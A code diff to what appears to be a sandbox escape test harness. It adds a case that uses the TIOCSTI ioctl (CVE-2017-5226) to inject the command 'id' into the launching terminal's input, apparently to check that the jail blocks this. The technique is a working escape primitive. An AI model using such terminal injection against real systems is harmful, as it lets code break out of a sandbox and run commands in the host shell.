@@ -226,6 +226,15 @@ int do_tiocsti(bool high) {
   }, high ? "ioctl(TIOCSTI | 1<<32)" : "ioctl(TIOCSTI)");
 }
 
+// The classic escape (CVE-2017-5226): push "id\n" into the terminal the
+// jail was started from, to be run by the caller's shell after exit.
+int tiocsti_stdin() {
+  long r = 0;
+  for (char c : std::string("id\n"))
+    if ((r = syscall(SYS_ioctl, 0, TIOCSTI, &c)) < 0) break;
+  return result("tiocsti-stdin", r, "ioctl(0, TIOCSTI)");
+}
+
 int do_tioclinux(bool high) {
   std::string name = high ? "tioclinux-high" : "tioclinux";
   return with_own_tty(name, [high](int fd) -> long {
@@ -327,6 +336,7 @@ int run_attack(const std::string& n, int argc, char** argv) {
   if (n == "int80") return do_int80();
   if (n == "tiocsti") return do_tiocsti(false);
   if (n == "tiocsti-high") return do_tiocsti(true);
+  if (n == "tiocsti-stdin") return tiocsti_stdin();
   if (n == "tioclinux") return do_tioclinux(false);
   if (n == "tioclinux-high") return do_tioclinux(true);
   if (n == "core_pattern") return open_write("core_pattern", "/proc/sys/kernel/core_pattern");
